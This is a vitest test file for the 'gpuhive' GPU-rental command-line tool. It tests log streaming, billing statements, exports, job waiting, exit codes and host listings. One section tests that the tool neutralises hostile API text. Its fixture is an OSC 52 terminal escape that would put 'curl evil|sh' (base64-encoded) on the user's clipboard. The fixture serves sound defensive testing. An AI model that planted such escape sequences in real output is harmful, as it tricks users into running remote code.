import { mkdtemp, readFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { main } from '#cli/main.ts';
import { bufferOutput, loggedIn, recordedFetch } from './fakes.ts';

/** Runs one command line in process against recorded responses; sleeps are counted, not waited. */
const run = async (argv: string[], replies: Parameters<typeof recordedFetch>[0], options: { interactive?: boolean; now?: () => Date } = {}) => {
  const output = bufferOutput(options.interactive);
  const fake = recordedFetch(replies);
  const sleeps: number[] = [];
  const code = await main(argv, { output, env: loggedIn, fetch: fake.fetch, sleep: async (ms) => void sleeps.push(ms), ...(options.now ? { now: options.now } : {}) });
  return { code, stdout: output.stdout(), stderr: output.stderr(), requests: fake.requests, sleeps };
};

// Recorded per the Job logs contract (GET /v1/jobs/{jobId}/logs).
const chunk = (seq: number, stream: 'stdout' | 'stderr', data: string, rank = 0) => ({ assignmentId: `job_1-a${rank}`, rank, seq, stream, at: '2026-11-25T10:00:00.000Z', data });
const logPages = {
  'GET /v1/jobs/job_1/logs': [
    { body: { items: [chunk(0, 'stdout', 'epoch 1\n'), chunk(1, 'stderr', 'warning: slow\n')], nextSince: 'c1', truncated: false, complete: false } },
    { body: { items: [], nextSince: 'c1', truncated: false, complete: false } },
    { body: { items: [chunk(2, 'stdout', 'done\n')], nextSince: 'c2', truncated: true, complete: true } },
  ],
};

describe('gpuhive logs', () => {
  it('prints what there is now, in order, stdout and stderr to their own streams, and stops', async () => {
    const result = await run(['logs', 'job_1'], logPages);

    expect(result.code).toBe(0);
    expect(result.stdout).toBe('epoch 1\n');
    expect(result.stderr).toBe('warning: slow\n');
    expect(result.requests.map((request) => request.url.searchParams.get('since'))).toEqual([null, 'c1']);
    expect(result.sleeps).toEqual([]);
  });

  it('with -f reads on from nextSince, pausing only on empty pages, until the job is complete', async () => {
    const result = await run(['logs', 'job_1', '-f'], logPages);

    expect(result.code).toBe(0);
    expect(result.stdout).toBe('epoch 1\ndone\n');
    expect(result.requests.map((request) => request.url.searchParams.get('since'))).toEqual([null, 'c1', 'c1']);
    expect(result.sleeps).toEqual([1000]);
    expect(result.stderr).toContain('more than its log size cap');
    expect(result.requests[0]?.headers.authorization).toBe('Bearer gpuhive_renter_test');
  });

  it('with --json prints one chunk per line, and with --ranks prefixes each line with its rank', async () => {
    const json = await run(['logs', 'job_1', '-f', '--json'], logPages);
    const ranked = await run(['logs', 'job_1', '--ranks'], {
      'GET /v1/jobs/job_1/logs': [{ body: { items: [chunk(0, 'stdout', 'a\nb', 0), chunk(0, 'stdout', 'c\n', 1), chunk(1, 'stdout', 'd\n', 0)], nextSince: 'x', truncated: false, complete: true } }],
    });

    expect(json.stdout.trim().split('\n').map((text) => JSON.parse(text).seq)).toEqual([0, 1, 2]);
    expect(ranked.stdout).toBe('[0] a\n[0] b[1] c\nd\n');
  });

  it('passes on the API error for a job that is not the caller\'s', async () => {
    const result = await run(['logs', 'job_other'], {});

    expect(result.code).toBe(3);
    expect(result.stderr).toContain('not_found (HTTP 404)');
  });
});

// Recorded per the Statements contract (GET /v1/billing/statements/{yyyy-mm}).
const statement = {
  month: '2026-11',
  accountId: 'acct_provider1',
  kind: 'provider',
  openingBalance: '1.000000',
  closingBalance: '4.240000',
  credits: [],
  charges: [],
  earnings: [
    { hostId: 'host_a', amount: '3.000000', gpuSeconds: 36000, records: 600 },
    { hostId: 'host_b', amount: '0.240000', gpuSeconds: 1800, records: 30 },
  ],
  totals: { credits: '0.000000', charges: '0.000000', earnings: '3.240000' },
};

describe('gpuhive earnings', () => {
  it("shows a provider's month: earnings per host, totals and balances", async () => {
    const result = await run(['earnings', '2026-11'], { 'GET /v1/billing/statements/2026-11': [{ body: statement }] });

    expect(result.code).toBe(0);
    expect(result.stdout).toContain('Statement for 2026-11, provider acct_provider1');
    expect(result.stdout).toMatch(/host_a\s+10\.00\s+600\s+\$3\.00/);
    expect(result.stdout).toMatch(/host_b\s+0\.50\s+30\s+\$0\.24/);
    expect(result.stdout).toContain('Earned:          $3.24');
    expect(result.stdout).toContain('Closing balance: $4.24');
  });

  it('asks for the current UTC month by default and prints the statement as is with --json', async () => {
    const result = await run(['earnings', '--json'], { 'GET /v1/billing/statements/2026-11': [{ body: statement }] }, { now: () => new Date('2026-11-30T23:59:00Z') });

    expect(result.requests[0]?.url.pathname).toBe('/v1/billing/statements/2026-11');
    expect(JSON.parse(result.stdout)).toEqual(statement);
  });

  it('refuses a malformed month before calling the API', async () => {
    const result = await run(['earnings', '2026-13'], {});

    expect(result.code).toBe(2);
    expect(result.stderr).toContain('The month must look like 2026-11');
    expect(result.requests).toEqual([]);
  });
});

describe('gpuhive export', () => {
  const csv = 'usageRecordId,jobId,amount\nur_1,job_1,0.450000\n';
  const exportReplies = (final: Record<string, unknown>) => ({
    'POST /v1/finance/exports': [{ status: 202, body: { exportId: 'exp_1', status: 'running' } }],
    'GET /v1/finance/exports/exp_1': [{ body: { exportId: 'exp_1', status: 'running' } }, { body: final }],
    'GET /files/exp_1.csv': [{ text: csv, headers: { 'content-type': 'text/csv', 'content-length': String(Buffer.byteLength(csv)) } }],
  });
  const succeeded = { exportId: 'exp_1', status: 'succeeded', rows: 1, totals: { amount: '0.450000' }, reconciled: true, url: 'http://api.test/files/exp_1.csv', urlExpiresAt: '2026-11-26T00:00:00.000Z' };

  it('starts the export, waits for it, downloads the file with a progress bar and summarizes it', async () => {
    const out = join(await mkdtemp(join(tmpdir(), 'gpuhive-export-')), 'usage.csv');

    const result = await run(['export', '--kind', 'usage', '--from', '2026-11-01', '--to', '2026-12-01', '--out', out], exportReplies(succeeded), { interactive: true });

    expect(result.code).toBe(0);
    expect(result.requests[0]?.body).toEqual({ kind: 'usage', from: '2026-11-01', to: '2026-12-01', format: 'csv' });
    expect(await readFile(out, 'utf8')).toBe(csv);
    expect(result.sleeps).toEqual([1000]);
    expect(result.stderr).toMatch(/\[#+\]\s+100%/);
    expect(result.stdout).toContain('1 rows');
    expect(result.stdout).toContain('Reconciled with the ledger: yes');
    // The signed URL is the credential: the API key is not sent to it.
    expect(result.requests.at(-1)?.headers.authorization).toBeUndefined();
  });

  it('exits 1 when the export failed, and 2 without its required flags', async () => {
    const failed = await run(['export', '--kind', 'ledger', '--from', '2026-11-01', '--to', '2026-12-01'], exportReplies({ exportId: 'exp_1', status: 'failed', error: 'boom' }));
    const missing = await run(['export', '--kind', 'usage'], {});

    expect(failed.code).toBe(1);
    expect(failed.stderr).toContain('Export exp_1 ended failed: boom');
    expect(missing.code).toBe(2);
    expect(missing.stderr).toContain('Give --kind usage|ledger|payouts, --from and --to.');
  });
});

const job = (status: string, statusReason: string | null = null) => ({
  jobId: 'job_1', name: null, status, statusReason, image: 'img', command: null, gpu: { count: 1 }, hosts: 1, regions: null, maxPricePerGpuHour: '0.900000',
  maxDurationSeconds: 3600, restartPolicy: 'on-host-loss', hold: '0.900000', assignments: [], cost: '0.000500', createdAt: '2026-11-25T10:00:00.000Z', startedAt: null, endedAt: null,
});

describe('gpuhive jobs wait', () => {
  it('redraws one status line on a terminal and exits 0 when the job succeeded', async () => {
    const result = await run(['jobs', 'wait', 'job_1'], { 'GET /v1/jobs/job_1': [{ body: job('queued', 'waiting for capacity') }, { body: job('running') }, { body: job('succeeded') }] }, { interactive: true });

    expect(result.code).toBe(0);
    expect(result.stderr.split('\r\x1b[2K')).toHaveLength(4);
    expect(result.stderr).toContain('job_1  queued  waiting for capacity');
    expect(result.stdout).toBe('job_1 succeeded; cost $0.0005\n');
  });

  it('exits 1 when the job failed, and 6 when --timeout passes first', async () => {
    let clock = Date.parse('2026-11-25T10:00:00Z');
    const failed = await run(['jobs', 'wait', 'job_1'], { 'GET /v1/jobs/job_1': [{ body: job('running') }, { body: job('failed', 'exit_code 3') }] });
    const timedOut = await run(['jobs', 'wait', 'job_1', '--timeout', '5'], { 'GET /v1/jobs/job_1': [{ body: job('running') }] }, { now: () => new Date((clock += 2000)) });

    expect(failed.code).toBe(1);
    expect(failed.stdout).toMatch(/job_1  running\n.*job_1  failed: exit_code 3\njob_1 failed \(exit_code 3\)/);
    expect(timedOut.code).toBe(6);
    expect(timedOut.stderr).toContain('Gave up waiting after 5 s');
  });
});

describe('errors and exit codes', () => {
  it('names the API error code, its message and each bad field; exit code 3', async () => {
    const result = await run(['jobs', 'submit', '--gpus', '1', '--max-price', '0.5', '--image', 'img'], {
      'POST /v1/jobs': [{ status: 400, body: { error: { code: 'validation_failed', message: 'The request is not valid.', details: [{ field: 'regions.0', message: 'must be a region name' }] } } }],
    });

    expect(result.code).toBe(3);
    expect(result.stderr).toBe('gpuhive jobs submit: validation_failed (HTTP 400): The request is not valid.\n  regions.0: must be a region name\n');
  });

  it('prints the error as JSON with --json', async () => {
    const result = await run(['balance', '--json'], { 'GET /v1/billing/balance': [{ status: 401, body: { error: { code: 'unauthorized', message: 'A valid API key is required.' } } }] });

    expect(result.code).toBe(4);
    expect(JSON.parse(result.stderr)).toEqual({ error: { status: 401, code: 'unauthorized', message: 'A valid API key is required.' } });
  });

  it('exits 5 when the API cannot be reached', async () => {
    const output = bufferOutput();
    const refused = async () => {
      throw Object.assign(new TypeError('fetch failed'), { cause: { code: 'ECONNREFUSED' } });
    };

    const code = await main(['balance'], { output, env: loggedIn, fetch: refused });

    expect(code).toBe(5);
    expect(output.stderr()).toBe('gpuhive balance: Cannot reach the API at http://api.test: ECONNREFUSED\n');
  });

  it('exits 2 on an unknown command or flag, naming it', async () => {
    const unknownCommand = await run(['jobs', 'frobnicate'], {});
    const unknownFlag = await run(['offers', '--colour', 'red'], {});

    expect(unknownCommand.code).toBe(2);
    expect(unknownCommand.stderr).toContain('unknown command "jobs frobnicate"');
    expect(unknownFlag.code).toBe(2);
    expect(unknownFlag.stderr).toContain("Unknown option '--colour'");
  });
});

describe('hostile text from the API stays inert', () => {
  // OSC 52 asks the terminal to put base64 text on the clipboard: here `curl evil|sh`.
  const osc52 = '\x1b]52;c;Y3VybCBldmlsfHNo\x07';
  const controls = /[\x00-\x08\x0b-\x1f\x7f-\x9f]/;
  const offer = { hostId: 'host_1', gpuModel: `RTX 4090${osc52}`, vramMb: 24564, availableGpus: 1, pricePerGpuHour: '0.450000', region: 'eu-west', runtimes: ['docker'], reliability: 1, multiHost: false };

  it('strips control characters (C0, DEL, C1) from tables and details, keeping the rest of the text', async () => {
    const offers = await run(['offers'], { 'GET /v1/offers': [{ body: { items: [offer] } }] });
    const get = await run(['jobs', 'get', 'job_1'], { 'GET /v1/jobs/job_1': [{ body: { ...job('queued', `no host\x9b2J\x7f${osc52}`), name: 'a\rb' } }] });

    expect(offers.stdout).not.toMatch(controls);
    expect(offers.stdout).toContain('RTX 4090]52;c;Y3VybCBldmlsfHNo');
    expect(get.stdout).not.toMatch(controls);
    expect(get.stdout).toContain('Status:       queued (no host2J]52;c;Y3VybCBldmlsfHNo)');
    expect(get.stdout).toContain('Name:         ab\n');
  });

  it('keeps --json lossless: the same values, with DEL and C1 escaped as well as C0', async () => {
    const result = await run(['offers', '--json'], { 'GET /v1/offers': [{ body: { items: [{ ...offer, region: 'eu\x9b\x7f' }] } }] });

    expect(result.stdout).not.toMatch(controls);
    expect(JSON.parse(result.stdout)[0]).toMatchObject({ gpuModel: offer.gpuModel, region: 'eu\x9b\x7f' });
  });

  it('shows a log line with its tabs and newlines, and every other control character escaped', async () => {
    const result = await run(['logs', 'job_1'], {
      'GET /v1/jobs/job_1/logs': [{ body: { items: [chunk(0, 'stdout', `col1\tcol2\r\n${osc52}bell\x07\x9b\n`), chunk(1, 'stderr', 'err\x1b[31m\n')], nextSince: 'c1', truncated: false, complete: true } }],
    });

    expect(result.code).toBe(0);
    expect(result.stdout).toBe('col1\tcol2\\x0d\n\\x1b]52;c;Y3VybCBldmlsfHNo\\x07bell\\x07\\x9b\n');
    expect(result.stderr).toBe('err\\x1b[31m\n');
  });

  it('strips control characters from API error messages and fields', async () => {
    const result = await run(['jobs', 'get', 'job_1'], { 'GET /v1/jobs/job_1': [{ status: 404, body: { error: { code: 'not_found', message: `No job${osc52}.`, details: [{ field: `x${osc52}`, message: 'm' }] } } }] });

    expect(result.code).toBe(3);
    expect(result.stderr).not.toMatch(controls);
  });
});

describe('gpuhive jobs cancel', () => {
  it('says a job that already ended was not cancelled, and exits 7', async () => {
    const ended = await run(['jobs', 'cancel', 'job_1'], { 'POST /v1/jobs/job_1/cancel': [{ status: 202, body: { jobId: 'job_1', status: 'succeeded' } }] });
    const running = await run(['jobs', 'cancel', 'job_1'], { 'POST /v1/jobs/job_1/cancel': [{ status: 202, body: { jobId: 'job_1', status: 'running' } }] });

    expect(ended.code).toBe(7);
    expect(ended.stdout).toBe('job_1 already ended (succeeded): nothing to cancel.\n');
    expect(running.code).toBe(0);
    expect(running.stdout).toBe('job_1: cancelling (running).\n');
  });
});

describe('gpuhive usage errors', () => {
  it("suggests the nearest option for a mistyped one: '--gpu' is '--gpus'", async () => {
    const typo = await run(['jobs', 'submit', '--gpu', '1', '--max-price', '0.5', '--', 'true'], {});
    const farOff = await run(['offers', '--colour', 'red'], {});

    expect(typo.code).toBe(2);
    expect(typo.stderr).toContain("Unknown option '--gpu'. Did you mean '--gpus'?");
    expect(farOff.stderr).not.toContain('Did you mean');
  });
});

describe('gpuhive hosts', () => {
  const host = (status: string, acceptsWork: boolean, listed = true) => ({
    hostId: `host_${status}`, hostname: 'rig', status, listed, acceptsWork, draining: false, statusReason: null, gpus: [{ model: 'RTX 4090', vramMb: 24564 }],
    pricePerGpuHour: '0.450000', region: 'eu-west', lastHeartbeatAt: '2026-11-25T10:00:00.000Z', reliability: 0.05,
  });

  it('shows a listed host as offered only while it takes work: not when unreachable or offline', async () => {
    const result = await run(['hosts'], { 'GET /v1/hosts': [{ body: { items: [host('online', true), host('unreachable', false), host('offline', false), host('online', false, false)], nextCursor: null } }] });

    expect(result.code).toBe(0);
    expect(result.stdout.split('\n')[0]).toMatch(/\bOFFERED\b/);
    expect(result.stdout).toMatch(/host_online\s.*\seu-west\s+yes\s+5\.0%/);
    expect(result.stdout).toMatch(/host_unreachable\s.*\seu-west\s+no\s+5\.0%/);
    expect(result.stdout).toMatch(/host_offline\s.*\seu-west\s+no\s+5\.0%/);
    expect(result.stdout).toMatch(/\seu-west\s+no \(unlisted\)\s+5\.0%/);
  });
});
